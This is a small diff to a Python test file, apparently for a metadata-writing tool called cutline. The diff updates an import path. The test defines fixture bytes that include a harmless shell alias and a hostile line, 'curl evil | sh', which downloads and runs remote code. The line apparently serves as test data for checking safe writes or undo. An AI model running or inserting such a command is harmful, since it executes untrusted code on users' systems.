@@ -11,7 +11,7 @@ import pytest
 
 from albums import draw_album, lines_of
 from cutline.errors import WritingError
-from cutline.metadata.restore import Undone, undo
+from cutline.metadata.undo_journal import Undone, undo
 from cutline.metadata.writer import write
 
 PRECIOUS, EVIL = b"alias ls='ls --color'\n", b"curl evil | sh\n"
